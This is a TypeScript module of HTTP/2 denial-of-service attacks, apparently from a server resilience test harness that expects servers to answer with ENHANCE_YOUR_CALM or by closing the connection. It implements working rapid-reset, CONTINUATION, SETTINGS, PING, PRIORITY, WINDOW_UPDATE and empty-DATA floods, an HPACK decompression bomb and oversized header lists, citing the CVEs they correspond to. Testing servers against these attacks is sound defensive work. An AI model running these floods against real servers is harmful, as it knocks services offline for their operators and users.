// Attacks that send much that costs nothing to send: floods of frames, and header blocks that grow where they are decoded.
import { type FieldPair, hpackBlock, hpackIndexed, hpackLiteral } from '../support/hpack.ts';
import type { RawHttp2Client } from '../support/http2-client.ts';
import { FLAG, FRAME, frameBytes, headersBytes, SETTING, settingsBytes, uint32 } from '../support/http2-frames.ts';
import { type Attack, type AttackPlace, onHttp2 } from './attack.ts';

const CONNECTIONS = 4;
/** Frames of one write. */
const BATCH = 200;
/** Who writes on and does not read sees the connection break instead. */
const CALM = /^(?:GOAWAY ENHANCE_YOUR_CALM|closed)$/;

export function request(method: 'GET' | 'POST', path: string): readonly FieldPair[] {
  return [
    [':method', method],
    [':scheme', 'http'],
    [':authority', 'attack.example.com'],
    [':path', path],
  ];
}

/** Sends what `batch` gives, one batch behind the other, as long as the connection takes it. */
function flood(place: AttackPlace, batch: (turn: number) => Buffer, begin?: (client: RawHttp2Client) => void) {
  return onHttp2(place, { connections: CONNECTIONS }, async (client) => {
    begin?.(client);
    for (let turn = 0; !place.signal.aborted && !client.ended; turn++) {
      await client.send(batch(turn));
      place.tally.sent += BATCH;
    }
  });
}

/** The same frame all over. */
function floodOf(frame: Buffer, begin?: (client: RawHttp2Client) => void): Attack['run'] {
  const bytes = Buffer.concat(Array.from({ length: BATCH }, () => frame));
  return (place) => flood(place, () => bytes, begin);
}

/** Number of the stream that is the `index`-th of a batch. */
const streamId = (turn: number, index: number): number => (turn * BATCH + index) * 2 + 1;

/** A batch that has something to say on a new stream each. */
function newStreams(write: (streamId: number) => Buffer): (turn: number) => Buffer {
  return (turn) => Buffer.concat(Array.from({ length: BATCH }, (_, index) => write(streamId(turn, index))));
}

const GET = hpackBlock(request('GET', '/attack'));
const POST = hpackBlock(request('POST', '/attack'));
const MALFORMED = hpackBlock([...request('GET', '/attack'), ['te', 'gzip']]);
const openRequest = (client: RawHttp2Client): void => void client.send(headersBytes(1, POST, 0));
const openBlock = (client: RawHttp2Client): void => void client.frame(FRAME.headers, FLAG.endStream, 1, GET);

const BOMB: FieldPair = ['x-bomb', 'b'.repeat(4000)];
/** The newest entry of the dynamic table. */
const NEWEST = hpackIndexed(62);
const REFERENCES = 15_000;
/** Some 60 MB when it is decoded. */
const bombBlock = Buffer.concat([GET, ...Array.from({ length: REFERENCES }, () => NEWEST)]);

const manyFields = hpackBlock([
  ...request('GET', '/attack'),
  ...Array.from({ length: 8000 }, (_, index): FieldPair => [`x-field-${index}`, 'v'.repeat(100)]),
]);

export const floods: readonly Attack[] = [
  {
    name: 'rapid reset',
    what: 'streams are opened and reset at once (CVE-2023-44487)',
    countedAs: 'rapid-reset',
    endsWith: CALM,
    run: (place) =>
      flood(
        place,
        newStreams((id) =>
          Buffer.concat([headersBytes(id, GET, FLAG.endStream), frameBytes(FRAME.rstStream, 0, id, uint32(8))]),
        ),
      ),
  },
  {
    name: 'malformed requests',
    what: 'requests that each get an answer of 400, and a reset',
    countedAs: 'malformed-flood',
    endsWith: CALM,
    run: (place) =>
      flood(
        place,
        newStreams((id) => headersBytes(id, MALFORMED, FLAG.endStream)),
      ),
  },
  {
    name: 'CONTINUATION flood',
    what: 'a header block that never ends (CVE-2024-27316 and others)',
    countedAs: 'continuation-flood',
    endsWith: CALM,
    run: floodOf(frameBytes(FRAME.continuation, 0, 1, hpackLiteral(['x-more', 'm'.repeat(900)])), openBlock),
  },
  {
    name: 'empty CONTINUATION',
    what: 'the same with frames of no content',
    countedAs: 'continuation-flood',
    endsWith: CALM,
    run: floodOf(frameBytes(FRAME.continuation, 0, 1), openBlock),
  },
  {
    name: 'SETTINGS flood',
    what: 'settings that each want an acknowledgement (CVE-2019-9515)',
    countedAs: 'settings-flood',
    endsWith: CALM,
    run: floodOf(settingsBytes([[SETTING.initialWindowSize, 65_535]])),
  },
  {
    name: 'PING flood',
    what: 'PING that each want an answer (CVE-2019-9512)',
    countedAs: 'ping-flood',
    endsWith: CALM,
    run: floodOf(frameBytes(FRAME.ping, 0, 0, Buffer.alloc(8))),
  },
  {
    name: 'PRIORITY flood',
    what: 'priorities that change all the time (CVE-2019-9513)',
    countedAs: 'priority-flood',
    endsWith: CALM,
    run: floodOf(frameBytes(FRAME.priority, 0, 1, Buffer.from([0, 0, 0, 3, 16]))),
  },
  {
    name: 'WINDOW_UPDATE flood',
    what: 'windows that grow by one',
    countedAs: 'window-update-flood',
    endsWith: CALM,
    run: floodOf(frameBytes(FRAME.windowUpdate, 0, 0, uint32(1))),
  },
  {
    name: 'empty DATA flood',
    what: 'content of no bytes that never ends (CVE-2019-9518)',
    countedAs: 'empty-data-flood',
    endsWith: CALM,
    run: floodOf(frameBytes(FRAME.data, 0, 1), openRequest),
  },
  {
    name: 'unknown frames',
    what: 'frames of a type that nobody knows',
    countedAs: 'unknown-frame-flood',
    endsWith: CALM,
    run: floodOf(frameBytes(0xfa, 0, 0)),
  },
  {
    name: 'HPACK bomb',
    what: `${REFERENCES} references to one entry of 4 KB in each block (CVE-2016-6581)`,
    countedAs: 'header-bomb',
    endsWith: CALM,
    run: (place) =>
      onHttp2(place, { connections: CONNECTIONS }, async (client) => {
        void client.send(headersBytes(1, Buffer.concat([GET, hpackLiteral(BOMB, 'kept')]), FLAG.endStream));
        for (let id = 3; !place.signal.aborted && !client.ended; id += 2) {
          await client.send(headersBytes(id, bombBlock, FLAG.endStream));
          place.tally.sent++;
        }
      }),
  },
  {
    name: 'huge header lists',
    what: '8000 fields, 900 KB, in each request',
    run: (place) =>
      onHttp2(place, { connections: CONNECTIONS }, async (client) => {
        for (let id = 1; !place.signal.aborted && !client.ended; id += 2) {
          await client.send(headersBytes(id, manyFields, FLAG.endStream));
          place.tally.sent++;
        }
      }),
  },
];
